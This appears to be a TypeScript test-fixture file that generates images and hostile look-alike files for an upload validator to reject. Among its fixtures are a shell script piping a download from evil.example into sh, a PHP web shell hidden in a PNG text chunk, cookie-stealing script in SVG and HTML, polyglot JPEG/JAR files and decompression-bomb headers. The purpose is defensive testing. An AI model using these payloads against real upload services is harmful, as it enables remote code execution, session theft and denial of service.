import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';

/** Pictures and not-pictures for the upload battery (decision 503). */

const solid = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#b45309' } });

export const pngBytes = (width = 32, height = width) => solid(width, height).png().toBuffer();
export const jpegBytes = (width = 40, height = 30) => solid(width, height).jpeg().toBuffer();
export const webpBytes = (width = 20, height = 20) => solid(width, height).webp().toBuffer();
export const gifBytes = () => solid(8, 8).gif().toBuffer();

/** Random pixels: compressed data that looks like a real photo's (no long runs, every byte value). */
export function noisyImage(seed: number, size = 256) {
  let state = seed >>> 0 || 1;
  const pixels = Buffer.alloc(size * size * 3);
  for (let i = 0; i < pixels.length; i++) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    pixels[i] = state & 0xff;
  }
  return sharp(pixels, { raw: { width: size, height: size, channels: 3 } });
}

/** A JPEG carrying EXIF (with a home address and a camera) and an XMP packet. */
export const jpegWithMetadata = () =>
  solid(40, 30)
    .jpeg()
    .withExif({ IFD0: { Copyright: 'Home address 12 Mall Road', Make: 'Bazaar Cam', Model: 'X1' } })
    .withXmp(
      '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
        '<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Ayesha</dc:creator>' +
        '</rdf:Description></rdf:RDF></x:xmpmeta>',
    )
    .toBuffer();

const pngChunk = (type: string, data: Buffer) => {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
};
const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** A decompression bomb's header: a PNG that claims `width` × `height` pixels over almost no data. */
export function pngBombHeader(width = 20_000, height = 20_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0);
  ihdr.writeUInt32BE(height, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', deflateSync(Buffer.alloc(64))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A real small JPEG whose frame header is rewritten to claim `width` × `height` pixels. */
export async function jpegBombHeader(width = 20_000, height = 20_000): Promise<Buffer> {
  const jpeg = Buffer.from(await jpegBytes(16, 16));
  for (let i = 2; i < jpeg.length - 9; ) {
    if (jpeg[i] !== 0xff) throw new Error('jpegBombHeader: lost the marker chain');
    const marker = jpeg[i + 1]!;
    if (marker === 0xc0 || marker === 0xc2) {
      jpeg.writeUInt16BE(height, i + 5);
      jpeg.writeUInt16BE(width, i + 7);
      return jpeg;
    }
    i += 2 + jpeg.readUInt16BE(i + 2);
  }
  throw new Error('jpegBombHeader: no frame header');
}

/** A PNG with a text chunk (as a PHP web shell hides in one) after its header. */
export async function pngWithText(keyword: string, text: string): Promise<Buffer> {
  const png = Buffer.from(await pngBytes(16));
  const afterHeader = 8 + 25; // signature, then the IHDR chunk (4 + 4 + 13 + 4)
  const chunk = pngChunk('tEXt', Buffer.from(`${keyword}\0${text}`, 'latin1'));
  return Buffer.concat([png.subarray(0, afterHeader), chunk, png.subarray(afterHeader)]);
}

/** A JPEG with a comment segment (FF FE) right after its start marker. */
export async function jpegWithComment(comment: string): Promise<Buffer> {
  const jpeg = Buffer.from(await jpegBytes());
  const body = Buffer.from(comment, 'latin1');
  const segment = Buffer.alloc(4);
  segment.set([0xff, 0xfe], 0);
  segment.writeUInt16BE(body.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), segment, body, jpeg.subarray(2)]);
}

/** A one-file ZIP (stored, not compressed), as a JAR holding a class file is. */
export function storedZip(name: string, content: Buffer): Buffer {
  const fileName = Buffer.from(name, 'latin1');
  const crc = crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(10, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(fileName.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(10, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(fileName.length, 28);
  const localSize = local.length + fileName.length + content.length;
  const centralSize = central.length + fileName.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(centralSize, 12);
  end.writeUInt32LE(localSize, 16);
  return Buffer.concat([local, fileName, content, central, fileName, end]);
}

export const SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
);
export const HTML_PAGE = Buffer.from(
  '<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>',
);
export const SHELL_SCRIPT = Buffer.from('#!/bin/sh\ncurl https://evil.example/x | sh\n');

/** Every kind of file the upload battery must refuse as "not an image", by name. */
export async function notImages(): Promise<{ name: string; data: Buffer }[]> {
  const jpeg = await jpegBytes();
  return [
    { name: 'an SVG', data: SVG },
    { name: 'an HTML page renamed .jpg', data: HTML_PAGE },
    { name: 'a shell script renamed .jpg', data: SHELL_SCRIPT },
    { name: 'a GIF', data: await gifBytes() },
    { name: 'a JPEG start marker followed by HTML', data: Buffer.concat([jpeg.subarray(0, 20), HTML_PAGE]) },
    {
      name: 'a JPEG with a script appended',
      data: Buffer.concat([jpeg, Buffer.from('<script>alert(1)</script>')]),
    },
    { name: 'a JPEG with HTML in its comment', data: await jpegWithComment('<html><body onload=alert(1)>') },
    { name: 'a JPEG with a PDF header in its comment', data: await jpegWithComment('%PDF-1.4\n1 0 obj') },
    {
      name: 'a JPEG with a JAR appended (GIFAR-like)',
      data: Buffer.concat([jpeg, storedZip('Evil.class', Buffer.from([0xca, 0xfe, 0xba, 0xbe]))]),
    },
    {
      name: 'a PNG with a PHP web shell in a text chunk',
      data: await pngWithText('Comment', '<?php system($_GET["c"]); ?>'),
    },
    { name: 'a truncated PNG', data: (await pngBytes(64)).subarray(0, 60) },
  ];
}
